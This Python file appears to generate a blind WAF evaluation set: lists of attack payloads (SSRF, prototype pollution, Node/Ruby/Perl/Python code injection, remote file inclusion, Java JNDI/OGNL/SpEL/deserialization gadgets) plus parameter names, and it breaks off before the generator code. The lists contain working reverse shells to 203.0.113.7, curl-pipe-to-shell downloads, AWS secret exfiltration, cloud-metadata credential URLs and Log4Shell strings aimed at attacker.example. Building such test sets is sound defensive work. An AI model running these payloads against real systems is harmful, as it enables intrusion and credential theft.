"""A third blind set: server-side request forgery, prototype pollution, server-side code injection in
Node.js, Ruby, Perl and Python (the "generic" families), remote file inclusion, and Java (JNDI lookups,
OGNL, SpEL/EL, Groovy, serialized objects, XStream/XMLDecoder documents), with benign requests that carry
the same words.

Written by an independent author from general knowledge of how each family is varied in practice (other
spellings of an address, dialects, quoting, whitespace substitutes, encodings, concatenation, comments,
case). Neither the WAF's rules nor any ruleset's regression tests or public payload collection were read
while writing it, nor the other generators' payload lists, except the first lines of family_gen_blind_php.py
(seen while looking for its helpers): a few JNDI and PHP-wrapper values here resemble those. Only the helpers
and record schema of family_gen_blind_php.py are shared. Each payload goes into three of our input places
(query, form, JSON, cookie, header), rotating; an XML document's first place is an XML body, and pollution goes where a
parser turns keys into objects (query strings, form bodies, JSON bodies, `j:` JSON cookies).

Benign requests: developers pasting snippets, config and links into Slack (signed, and as profile bios;
internal addresses only into Slack, where people actually post them), public URLs and webhooks, admin
search prose, and JSON API documents whose keys are ordinary words like constructor, prototype, proto,
template, include, file, path, url and callback. Same record schema as family_gen.py; deterministic (no
randomness at all).
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _get, _json
from .family_gen_blind_php import PLACES, _place, chat_and_bio, links_and_prose, slack_message, three_places
from .records import numbered, print_records

# --------------------------------------------------------------------------------------------------
# generic / ssrf: internal, loopback, link-local and metadata addresses in many spellings, other schemes
SSRF = [
    # loopback, plain and respelled
    "http://127.0.0.1/",
    "http://127.0.0.1:8080/admin",
    "http://localhost:6379/",
    "http://localhost/server-status",
    "HTTP://LOCALHOST:8080/manager/html",
    "http://localhost.localdomain:9090/",
    "http://0.0.0.0:22/",
    "http://0/",
    "http://127.1/",
    "http://0177.1/",
    "http://127.000.000.001/",
    "http://127.127.127.127:8000/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0x7f.0x0.0x0.0x1/",
    "http://0177.0.0.1/",
    "http://017700000001/",
    "http://%31%32%37%2e%30%2e%30%2e%31/admin",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    "//127.0.0.1/admin",
    "http:/\\127.0.0.1/",
    # IPv6 and IPv4-mapped IPv6
    "http://[::1]/",
    "http://[::]:80/",
    "http://[0:0:0:0:0:0:0:1]:8080/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/",
    "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    # cloud metadata services
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "https://169.254.169.254/latest/api/token",
    "http://169.254.169.254/computeMetadata/v1/?recursive=true",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "http://192.0.0.192/latest/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://instance-data/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    # private networks and internal services
    "http://10.0.0.1/admin",
    "http://192.168.0.1/cgi-bin/luci",
    "http://172.16.0.10:9200/_cat/indices?v",
    "http://10.10.1.5:2375/containers/json",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
    "http://localhost:8500/v1/agent/self",
    "http://127.0.0.1:10255/pods",
    "http://0.0.0.0:8080/actuator/env",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "https://kubernetes.default.svc.cluster.local:443/api/v1/secrets",
    # DNS names that resolve inward, and userinfo / fragment confusion
    "http://127.0.0.1.nip.io/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://localtest.me:8080/",
    "http://7f000001.a9fea9fe.rbndr.us/",
    "http://allowed.example.com.127.0.0.1.sslip.io/",
    "http://allowed.example.com@127.0.0.1/",
    "http://expected-host.example@169.254.169.254/latest/meta-data/",
    "http://127.0.0.1#@allowed.example.com/",
    "http://127.0.0.1:80\\@allowed.example.com/",
    "http://user:pass@localhost:5984/_all_dbs",
    # other schemes
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "gopher://localhost:25/_HELO%20localhost%0D%0AMAIL%20FROM%3A%3Cx%40example.com%3E%0D%0A",
    "gopher://127.0.0.1:3306/_%a3%00%00%01%85%a6%ff%01",
    "dict://127.0.0.1:11211/stats",
    "dict://localhost:6379/info",
    "file:///etc/passwd",
    "file://localhost/etc/shadow",
    "file:///proc/self/environ",
    "FILE:///c:/windows/win.ini",
    "ldap://127.0.0.1:389/dc=example,dc=com",
    "ldap://localhost:389/%0astats%0aquit",
    "tftp://10.0.0.5:69/config.bin",
    "jar:http://127.0.0.1:8080/x.jar!/",
    "netdoc:///etc/passwd",
    "ftp://127.0.0.1:21/",
    "sftp://10.0.0.2:22/",
]

# generic / pollution: query strings and form bodies (raw, as a qs-style parser sees them), JSON bodies
POLLUTION_QS = [
    "__proto__[isAdmin]=true",
    "__proto__.isAdmin=true",
    "constructor[prototype][isAdmin]=true",
    "constructor.prototype.isAdmin=true",
    "user[__proto__][role]=admin",
    "a[__proto__][polluted]=1",
    "__proto__[toString]=1",
    "__proto__[status]=510",
    "__pro__proto__to__[admin]=1",
    "__proto__%5Badmin%5D=1",
    "%5F%5Fproto%5F%5F%5Badmin%5D=1",
    "filter[constructor][prototype][shell]=/bin/sh",
    "__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2",
    "__proto__[NODE_OPTIONS]=--require%20/proc/self/environ",
    "__proto__[argv0]=node&__proto__[shell]=node",
    "settings[__proto__][sourceURL]=%0Areturn%20process",
    "q[__proto__][]=x",
    "__proto__[client]=1&__proto__[escapeFunction]=JSON.stringify;process.mainModule.require('child_process').exec('id')",
    "constructor[prototype][toString]=x",
    "__proto__[json%20spaces]=10",
    "__proto__[exposedHeaders]=foo",
    "__proto__[headers][x-polluted]=1",
    "page=1&__proto__[isAdmin]=1",
    "user.__proto__.role=admin",
    "x[constructor][prototype][isAdmin]=1&x[constructor][prototype][role]=admin",
]

POLLUTION_JSON = [
    '{"__proto__": {"isAdmin": true}}',
    '{"user": {"__proto__": {"role": "admin"}}}',
    '{"constructor": {"prototype": {"isAdmin": true}}}',
    '{"profile": {"constructor": {"prototype": {"polluted": "yes"}}}}',
    '{"__proto__": {"outputFunctionName": "x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}',
    '{"settings": {"__proto__": {"shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/cmdline"}}}',
    '{"\\u005f\\u005fproto\\u005f\\u005f": {"admin": 1}}',
    '{"a": [{"__proto__": {"x": 1}}]}',
    '{"__proto__": {"json spaces": 10}}',
    '{"__proto__":{"status":555}}',
    '{"constructor":{"prototype":{"sourceURL":"\\nreturn process.mainModule.require(\'child_process\')'
    '.execSync(\'id\')"}}}',
    '{"path": "__proto__.isAdmin", "value": true}',
    '[{"op": "add", "path": "/__proto__/isAdmin", "value": true}]',
    '[{"op": "replace", "path": "/constructor/prototype/admin", "value": true}]',
    '{"key": "constructor.prototype.isAdmin", "value": "1"}',
    '{"name": "Ann", "__proto__": {"email_verified": true}}',
]

# generic / nodejs: server-side JavaScript injection
NODE = [
    "require('child_process').exec('id')",
    'require("child_process").execSync("cat /etc/passwd").toString()',
    "process.mainModule.require('child_process').execSync('whoami')",
    "global.process.mainModule.constructor._load('child_process').exec('id')",
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "Function('return process')().exit()",
    "new Function(\"return this.process.mainModule.require('child_process').execSync('id').toString()\")()",
    "eval(\"require('child_process').exec('ls -la')\")",
    "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp','base64').toString())",
    "eval(new Buffer('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp', 'base64').toString('ascii'))",
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,"
    "39,41,46,101,120,101,99,83,121,110,99,40,39,105,100,39,41))",
    "eval('\\x72\\x65\\x71\\x75\\x69\\x72\\x65(\"child_process\").exec(\"id\")')",
    "eval(\"\\u0072equire('child_process').exec('id')\")",
    "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp'))",
    "eval(decodeURIComponent('%72%65%71%75%69%72%65%28%27%66%73%27%29.readFileSync(%27/etc/passwd%27)'))",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    "require('fs').readdirSync('.').toString()",
    "require('fs').writeFileSync('/tmp/x.js', 'module.exports=1')",
    "require('fs').readFileSync('/proc/self/environ','utf-8')",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().env')",
    "vm.runInThisContext('process.env')",
    "new (require('vm').Script)('process.exit()').runInThisContext()",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:true}]})",
    "process['binding']('fs')",
    "process.kill(process.pid)",
    "process.exit(1)",
    "JSON.stringify(process.env)",
    "res.json(process.env)",
    "require('child_process').spawn('/bin/sh', ['-c', 'id'])",
    "require('child_process').spawnSync('nc', ['-e', '/bin/sh', '203.0.113.7', '4444'])",
    "require('child_process').execFileSync('/usr/bin/id')",
    "require('child_process').fork('/tmp/x.js')",
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();"
    "c.connect(4444,'203.0.113.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});return /a/;})()",
    "require('http').get('http://203.0.113.7/?k='+process.env.AWS_SECRET_ACCESS_KEY)",
    "require('dns').lookup(require('os').hostname()+'.oob.attacker.example', ()=>{})",
    "setTimeout(\"require('child_process').exec('id')\", 0)",
    "setInterval(function(){require('child_process').exec('id')}, 1000)",
    "import('child_process').then(m=>m.execSync('id'))",
    "global['pro'+'cess']['main'+'Module']['req'+'uire']('child_'+'process')['exec'+'Sync']('id')",
    "this['constructor']['constructor']('return process')()",
    "[].constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "''['constructor']['constructor']('return this')().process.mainModule.require('fs')"
    ".readFileSync('/etc/passwd','utf8')",
    "(()=>{}).constructor('return process')()",
    "Reflect.construct(Function, ['return process'])()",
    "Object.getPrototypeOf(async function(){}).constructor('return process')()",
    "module.constructor._load('child_process').execSync('id')",
    "module.require('child_process').exec('id')",
    "require.main.require('child_process').execSync('id')",
    "globalThis.process.mainModule.require('child_process').execSync('id')",
    "this.process.mainModule.require('child_process').execSync('id')",
    "require('child_process')['exe'+'cSync']('id')",
    "require(`child_process`).exec(`id`)",
    "require /* x */ ('child_process') . exec ('id')",
    "require\t(\n'child_process'\n)\n.exec('id')",
    "process.dlopen(module, '/tmp/x.node')",
    "new (require('worker_threads').Worker)('process.exit()', {eval: true})",
    "res.write(require('os').hostname())",
    "require('os').userInfo()",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "';require('child_process').exec('id');//",
    "\";process.exit();//",
    "1; while(true){}",
    "require('child_process').exec('curl http://203.0.113.7/x.sh | sh')",
    "{\"$where\": \"this.constructor.constructor('return process')().exit()\"}",
]

# generic / ruby
RUBY = [
    "`id`",
    "%x(id)",
    "%x{cat /etc/passwd}",
    "%x[uname -a]",
    "system('id')",
    'Kernel.system("uname -a")',
    "Kernel.exec('/bin/sh')",
    "Kernel.`('id')",
    "exec(\"sh -c 'id'\")",
    "IO.popen('id').read",
    "IO.popen(['cat', '/etc/passwd']).read",
    "open('|id').read",
    'Kernel.open("|cat /etc/passwd").read',
    "spawn('id')",
    'Process.spawn("nc -e /bin/sh 203.0.113.7 4444")',
    "require 'open3'; Open3.capture2('id')",
    "Open3.popen3('id') { |i, o, e, t| puts o.read }",
    "<%= `id` %>",
    '<%= system("whoami") %>',
    "<%= File.read('/etc/passwd') %>",
    "<%= IO.popen('id').readlines() %>",
    "#{`id`}",
    "#{%x(whoami)}",
    "Kernel.send(:system, 'id')",
    "Object.send(:exec, '/bin/sh')",
    "1.public_send(:instance_eval, \"system('id')\")",
    "Object.const_get(:Kernel).send(:exec, 'id')",
    "Object.const_get('Kernel').method(:system).call('id')",
    "method(:system).call(\"id\")",
    "__send__(:system, 'id')",
    "instance_eval(\"`id`\")",
    "String.class_eval(\"def to_s; `id`; end\")",
    "eval(\"`id`\")",
    "eval(['73797374656d282769642729'].pack('H*'))",
    "eval(Base64.decode64('c3lzdGVtKCdpZCcp'))",
    "Marshal.load(Base64.decode64('BAhvOhVHZW06OlJlcXVpcmVtZW50BjoRQHJlcXVpcmVtZW50c1sGbzoYR2VtOjpEZXBlbmRlbmN5TGlzdAc6"
    "C0BzcGVjc1sAOhBAZGV2ZWxvcG1lbnRfZGVwZW5kZW5jaWVzVA=='))",
    "--- !ruby/object:Gem::Installer\ni: x\n",
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs: []\n",
    "YAML.load(\"--- !ruby/object:OpenStruct\\ntable: {}\")",
    "Psych.unsafe_load(File.read('/tmp/x.yml'))",
    "ERB.new(\"<%= `id` %>\").result(binding)",
    "File.read(\"/etc/shadow\")",
    "Dir.glob('/*').join(',')",
    "$stdout.puts `id`",
    "`curl -s http://203.0.113.7/x | sh`",
]

# generic / perl
PERL = [
    'system("/bin/sh -c id");',
    'exec "/bin/sh";',
    "qx(id)",
    "qx{cat /etc/passwd}",
    "qx/uname -a/",
    "my $o = `id`; print $o;",
    "print `cat /etc/passwd`;",
    'open(my $fh, "|id");',
    'open(F, "cat /etc/passwd|"); print <F>;',
    "open(FH, '-|', 'id'); print <FH>;",
    'open STDOUT, "|/bin/sh";',
    "eval \"system('id')\";",
    'eval { system("id") };',
    'eval(pack("H*", "73797374656d282769642729"));',
    'eval(decode_base64("c3lzdGVtKCdpZCcp"));',
    'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");'
    'exec("/bin/sh -i");};',
    "perl -e 'exec \"/bin/sh\";'",
    "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.7:4444\");"
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    "@{[ `id` ]}",
    "${\\ system('id') }",
    "system qw(cat /etc/passwd);",
    'system { "sh" } "sh", "-c", "id";',
    "exec { '/bin/sh' } 'sh';",
    'readpipe("id")',
    "readpipe('cat /etc/passwd')",
    'CORE::system("id");',
    "&CORE::system('id');",
    "do '/tmp/evil.pl';",
    "require '/tmp/evil.pm';",
    "unlink glob('/var/www/html/*');",
    "sysopen(F, '/etc/passwd', 0); print <F>;",
    "|/usr/bin/id",
    "cat /etc/passwd|",
    ";system('id');#",
    '");system("id");#',
    "s/x/system('id')/ee",
    "$x = 'sys'.'tem'; &$x('id');",
    "&{\\&{'CORE::sys'.'tem'}}('id');",
    'eval "\\x73ystem(\'id\')";',
]

# generic / python
PYTHON = [
    "__import__('os').system('id')",
    '__import__("os").popen("id").read()',
    "__import__('subprocess').check_output(['id'])",
    "import os; os.system('id')",
    "import subprocess;subprocess.call('id',shell=True)",
    "subprocess.Popen(['/bin/sh','-c','id'])",
    "os.popen('cat /etc/passwd').read()",
    "os.execl('/bin/sh','sh','-c','id')",
    "os.spawnlp(os.P_WAIT, 'id', 'id')",
    "eval(\"__import__('os').system('id')\")",
    "exec(\"import os\\nos.system('id')\")",
    "exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "eval(bytes.fromhex('5f5f696d706f72745f5f28276f7327292e73797374656d282769642729').decode())",
    "eval(''.join(chr(c) for c in [95,95,105,109,112,111,114,116,95,95,40,39,111,115,39,41,46,115,121,115,116,101,"
    "109,40,39,105,100,39,41]))",
    "().__class__.__bases__[0].__subclasses__()",
    "''.__class__.__mro__[1].__subclasses__()[133].__init__.__globals__['popen']('id').read()",
    "[].__class__.__base__.__subclasses__()",
    "{}.__class__.__mro__[-1].__subclasses__()",
    "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='catch_warnings'][0]()._module"
    ".__builtins__['__import__']('os').system('id')",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "__builtins__.__dict__['__import__']('os').system('id')",
    "getattr(__import__('os'), 'sys'+'tem')('id')",
    "getattr(getattr(__builtins__,'__imp'+'ort__')('os'),'system')('id')",
    "__import__('o'+'s').system('id')",
    "__import__ ( 'os' ) . system ( 'id' )",
    "__import__('importlib').import_module('os').system('id')",
    "sys.modules['os'].system('id')",
    "__import__('pty').spawn('/bin/bash')",
    "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));"
    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])",
    "open('/etc/passwd').read()",
    "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.",
    "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
    "pickle.loads(base64.b64decode('gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=='))",
    '!!python/object/apply:os.system ["id"]',
    '!!python/object/apply:subprocess.check_output [["id"]]',
    "!!python/object/new:os.system [id]",
    "!!python/name:os.system",
    "!!python/object/apply:builtins.eval [\"__import__('os').system('id')\"]",
    "\"+__import__('os').system('id')+\"",
    "';__import__(\"os\").system(\"id\");'",
]

# rfi: values for include-like parameters
RFI = [
    "http://203.0.113.7/shell.txt?",
    "http://203.0.113.7/shell.txt%00",
    "https://attacker.example/c99.txt?",
    "http://attacker.example/r57.txt#",
    "ftp://attacker.example/pub/shell.php",
    "ftp://anonymous:anon@203.0.113.7/x.php",
    "\\\\203.0.113.7\\share\\shell.php",
    "\\\\attacker.example\\public\\x.php",
    "smb://203.0.113.7/share/shell.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data:text/plain,<?php phpinfo(); ?>",
    "data:;base64,PD9waHAgZXZhbCgkX1BPU1RbMF0pOz8+",
    "expect://id",
    "php://input",
    "php://filter/read=convert.base64-encode/resource=http://attacker.example/x",
    "HTTP://ATTACKER.EXAMPLE/X.TXT?",
    "hTTp://203.0.113.7/x.txt",
    "http://3405803783/shell.txt",
    "http://0xcb007107/x.txt?",
    "http://[2001:db8::7]/shell.txt?",
    "//attacker.example/shell.txt",
    "http://attacker.example/shell.txt?x=",
    "http://attacker.example/shell.jpg%00.php",
    "http:%2f%2fattacker.example%2fshell.txt",
    "http://attacker.example/shell.txt%3f",
    "https://pastebin.com/raw/Ab12Cd34?",
    "https://raw.githubusercontent.com/attacker/x/main/shell.txt?",
    "http://attacker.example:8080/inc.txt?cmd=id",
    "http://user:pass@203.0.113.7/x.txt?",
    "https://203.0.113.7:443/shell.txt#",
    "ftps://attacker.example/x.txt",
    "http://attacker.example/shell.txt??",
    "http://203.0.113.7/x.txt?&",
    "http://127.0.0.1@attacker.example/shell.txt?",
    "http://attacker.example/%2e%2e/shell.txt?",
    "https://attacker.example/templates/evil.tpl",
    "http://attacker.example/lang/en.php?",
    "http://203.0.113.7/mod.inc?id=1",
]

# java: JNDI lookups, OGNL, SpEL and EL, Groovy, serialized objects, XML decoders, polymorphic JSON
JAVA = [
    # JNDI / Log4Shell
    "${jndi:ldap://203.0.113.7:1389/Exploit}",
    "${jndi:rmi://attacker.example:1099/obj}",
    "${jndi:dns://attacker.example/a}",
    "${jndi:ldap://${env:USER}.attacker.example/a}",
    "${jndi:ldap://${sys:java.version}.attacker.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${${lower:jndi}:${lower:rmi}://attacker.example/a}",
    "${${upper:J}ndi:ldap://attacker.example/a}",
    "${j${main:x:-n}di:ldap://attacker.example/a}",
    "${jnd${lower:i}:ldap://attacker.example/a}",
    "${${sd:k5:-j}${sd:k5:-n}di:ldap://attacker.example/a}",
    "${base64:am5kaTpsZGFwOi8vYXR0YWNrZXIuZXhhbXBsZS9h}",
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
    "$%7Bjndi:ldap://attacker.example/a%7D",
    "${jndi:ldap://attacker.example/${hostName}}",
    "${\\u006a\\u006e\\u0064\\u0069:ldap://attacker.example/a}",
    "${jndi:nis://attacker.example/a}",
    "${jndi:http://attacker.example/a}",
    "${jndi:ldap://[2001:db8::7]:1389/a}",
    "${ctx:loginId}${jndi:ldap://attacker.example/a}",
    "Mozilla/5.0 ${jndi:ldap://attacker.example/ua}",
    # OGNL / Struts
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
    "${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')"
    ".(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context)"
    ".(#cr=#ct['com.opensymphony.xwork2.ActionContext.container'])"
    ".(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear())"
    ".(#ou.getExcludedClasses().clear()).(#ct.setMemberAccess(#dm)).(#cmd='id')"
    ".(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
    "%{@java.lang.System@getProperty('user.dir')}",
    '${@java.lang.Runtime@getRuntime().exec("touch /tmp/x")}',
    '%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"whoami"})).redirectErrorStream(true).start()}',
    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),#a=#req.getSession(),"
    "#b=#a.getServletContext(),#c=#b.getRealPath(\"/\"),#c}",
    "('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)=true",
    "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')"
    ".(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))"
    ".(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))"
    ".(#process=#p.start())}",
    # SpEL
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    '${T(java.lang.Runtime).getRuntime().exec("calc")}',
    "T (java.lang.Runtime) .getRuntime() .exec ('id')",
    "T(java.lang.System).getenv()",
    "new java.lang.ProcessBuilder({'id'}).start()",
    "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream(),"
    "T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse()"
    ".getOutputStream())",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "T(java.lang.Class).forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')",
    "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character)"
    ".toString(100)))",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','id'})",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    # EL
    '${pageContext.request.getSession().setAttribute("admin",true)}',
    '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}',
    "#{request.getClass().getClassLoader()}",
    "${facesContext.getExternalContext().getRequest()}",
    '#{session.setAttribute("x", "".getClass().forName("java.lang.ProcessBuilder"))}',
    "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js')"
    ".eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
    "${pageContext.servletContext.getRealPath('/')}",
    "${applicationScope}",
    # Groovy and plain Java
    '"id".execute().text',
    "'cat /etc/passwd'.execute()",
    '["sh","-c","id"].execute()',
    'def p = "whoami".execute(); println p.text',
    "this.class.classLoader.parseClass('class X { static { \"id\".execute() } }').newInstance()",
    '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")}) class X{}',
    "new GroovyShell().evaluate('\"id\".execute()')",
    "Eval.me('\"id\".execute().text')",
    '${"id".execute().text}',
    'java.lang.Runtime.getRuntime().exec("id")',
    'Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(Runtime.getRuntime(), "id")',
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    # serialized objects
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAAAAAAAAAABAgAAeHA=",
    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcgAAAAAAAAABAgAAeHA=",
    "rO0ABXNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyAAAAAAAAAAECAAB4cA==",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQAAAAAAAAABAgAAeHA=",
    "aced00057372002e6a617661782e6d616e6167656d656e742e42616441747472696275746556616c7565457870457863657074696f6e"
    "00000000000000010200007870",
    "ACED00057372002B6F72672E6170616368652E636F6D6D6F6E732E6265616E7574696C732E4265616E436F6D70617261746F72"
    "00000000000000010200007870",
    "H4sIAAAAAAAC/1vzloG1uIhBPCuxLFGvtCQzRy+gKDO/KLOkMrA0tTSVAQIYmRgYKgoAPPh4SywAAAA=",
    "%AC%ED%00%05sr%00%11java.util.HashMap",
    # polymorphic JSON
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/Exploit",'
    '"autoCommit":true}',
    '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://attacker.example:1099/x","autoCommit":true}]',
    '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://attacker.example/a","autoCommit":true}',
    '{"@type":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://attacker.example/a"}',
]

# java: XML bodies for XStream and java.beans.XMLDecoder (first place an XML body)
JAVA_XML = [
    '<java version="1.8.0" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder">'
    '<array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array>'
    '<void method="start"/></object></java>',
    "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface>"
    '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
    "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags>"
    '<value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler>'
    '<dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="java.io.'
    'SequenceInputStream"/></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString>'
    "</entry></map>",
    '<object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></object>',
    '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3">'
    '<void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void>'
    '<void index="2"><string>id</string></void></array><void method="start"/></object></java>',
    '<?xml version="1.0"?><java><void class="java.lang.Runtime" method="getRuntime">'
    '<void method="exec"><array class="java.lang.String" length="2"><void index="0"><string>touch</string></void>'
    '<void index="1"><string>/tmp/x</string></void></array></void></void></java>',
]

CODE_PARAMS = ["q", "name", "data", "expr", "filter", "callback", "template", "search"]
SSRF_PARAMS = ["url", "webhook", "callback", "image_url", "feed", "target", "redirect_uri", "proxy"]
RFI_PARAMS = ["page", "file", "template", "include", "path", "lang", "module"]

# (category, sub, payloads, parameter names)
